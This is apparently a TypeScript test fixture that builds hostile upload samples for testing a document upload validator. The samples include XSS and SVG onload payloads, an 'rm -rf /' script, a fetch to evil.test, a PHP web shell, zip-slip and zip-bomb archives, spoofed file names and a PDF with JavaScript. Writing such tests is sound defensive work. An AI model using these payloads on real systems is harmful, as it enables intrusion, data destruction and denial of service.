import { buffer } from 'node:stream/consumers';
import type { Readable } from 'node:stream';
import { ZipFile } from 'yazl';

/** `isKept`: accepted, but only ever downloaded. */
type HostileDocument = Readonly<{ what: string; name: string; bytes: Buffer; isKept?: true }>;

const SCRIPT = '<script>alert(document.cookie)</script>';
const PDF = '%PDF-1.7\n1 0 obj\n';
const text = (words: string) => Buffer.from(words, 'latin1');

function zip(files: Readonly<Record<string, string | Buffer>>): Promise<Buffer> {
  const archive = new ZipFile();
  for (const [name, content] of Object.entries(files)) archive.addBuffer(Buffer.from(content), name);
  archive.end();
  return buffer(archive.outputStream as Readable);
}

const contentTypes = (type: string) =>
  `<?xml version="1.0"?><Types><Override PartName="/x" ContentType="application/${type}.main+xml"/></Types>`;
const WORD = 'vnd.openxmlformats-officedocument.wordprocessingml.document';
const BOMB_BYTES = 100_000_000;

async function climbingZip(): Promise<Buffer> {
  const harmless = await zip({ 'xx/xx/xx/passwd': 'root' });
  return text(harmless.toString('latin1').replaceAll('xx/xx/xx/', '../../../'));
}

export async function hostileDocuments(): Promise<readonly HostileDocument[]> {
  const archive = await zip({ 'index.html': SCRIPT });
  const bomb = await zip({ '0.bin': Buffer.alloc(BOMB_BYTES) });
  return [
    { what: 'a page', name: 'deed.pdf', bytes: text(`<!doctype html><html>${SCRIPT}`) },
    { what: 'a page behind a byte order mark', name: 'deed.pdf', bytes: text(`\xef\xbb\xbf<html>${SCRIPT}`) },
    { what: 'a page that names PDF later', name: 'deed.pdf', bytes: text(`<html>${SCRIPT}${PDF}`) },
    { what: 'a drawing with a script', name: 'plan.svg', bytes: text(`<svg onload="alert(1)">${SCRIPT}</svg>`) },
    { what: 'a drawing as a photograph', name: 'plan.png', bytes: text(`<?xml version="1.0"?><svg>${SCRIPT}</svg>`) },
    { what: 'a script', name: 'deed.pdf.sh', bytes: text('#!/bin/sh\nrm -rf /\n') },
    { what: 'JavaScript', name: 'deed.js', bytes: text('fetch("https://evil.test")') },
    { what: 'PHP', name: 'deed.php.pdf', bytes: text('<?php system($_GET["c"]); ?>') },
    { what: 'a program of Windows', name: 'deed.pdf.exe', bytes: text(`MZ${'\0'.repeat(300)}PE\0\0`) },
    { what: 'a program of Linux', name: 'deed.pdf', bytes: text(`\x7fELF\x02\x01\x01${'\0'.repeat(300)}`) },
    { what: 'a program of macOS', name: 'deed', bytes: text(`\xcf\xfa\xed\xfe${'\0'.repeat(300)}`) },
    { what: 'a shortcut', name: 'deed.pdf.lnk', bytes: text(`\x4c\0\0\0\x01\x14\x02\0${'\0'.repeat(80)}`) },
    { what: 'an archive', name: 'deed.docx', bytes: archive },
    { what: 'an archive that climbs', name: 'deed.zip', bytes: await climbingZip() },
    { what: 'an archive that swells', name: 'deed.zip', bytes: bomb },
    { what: 'an archive in an archive', name: 'deed.zip', bytes: await zip({ 'bomb.zip': bomb }) },
    { what: 'gzip', name: 'deed.pdf', bytes: text(`\x1f\x8b\x08${'\0'.repeat(60)}`) },
    {
      what: 'Word with macros',
      name: 'deed.docx',
      bytes: await zip({ '[Content_Types].xml': contentTypes('vnd.ms-word.document.macroEnabled') }),
    },
    {
      what: 'Excel with macros',
      name: 'costs.xlsx',
      bytes: await zip({ '[Content_Types].xml': contentTypes('vnd.ms-excel.sheet.macroEnabled') }),
    },
    {
      what: 'Word whose list swells',
      name: 'deed.docx',
      bytes: await zip({ '[Content_Types].xml': Buffer.alloc(BOMB_BYTES) }),
    },
    { what: 'old Word', name: 'deed.doc', bytes: text(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(600)}`) },
    { what: 'rich text', name: 'deed.rtf', bytes: text('{\\rtf1\\object\\objdata x}') },
    {
      what: 'the test of virus scanners',
      name: 'eicar.pdf',
      bytes: text('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
    },
    { what: 'a GIF that is JavaScript', name: 'a.png', bytes: text('GIF89a/*\x01\0\x01\0*/=1;alert(1)//') },
    { what: 'an email with a page', name: 'deed.pdf', bytes: text(`MIME-Version: 1.0\r\n\r\n${SCRIPT}`) },
    { what: 'a name with NUL', name: 'deed.exe\0.pdf', bytes: text(SCRIPT) },
    { what: 'a name that climbs', name: '../../../etc/cron.d/deed.pdf', bytes: text(SCRIPT) },
    { what: 'a name of Windows that climbs', name: '..\\..\\windows\\deed.pdf', bytes: text(SCRIPT) },
    { what: 'a name written backwards', name: 'deed\u202efdp.exe', bytes: text(SCRIPT) },
    { what: 'a name that is a page', name: `${SCRIPT}.pdf`, bytes: text(SCRIPT) },
    { what: 'a PDF cut in its first word', name: 'deed.pdf', bytes: text('%PD') },
    { what: 'a PDF that is a page too', name: 'deed.html', bytes: text(`${PDF}<html>${SCRIPT}`), isKept: true },
    {
      what: 'a PDF with a script',
      name: 'deed.pdf',
      bytes: text(`${PDF}<</S/JavaScript/JS(app.alert(1))>>`),
      isKept: true,
    },
    {
      what: 'Word that swells',
      name: '../deed.docx',
      bytes: await zip({ '[Content_Types].xml': contentTypes(WORD), 'word/x.xml': Buffer.alloc(BOMB_BYTES) }),
      isKept: true,
    },
  ];
}
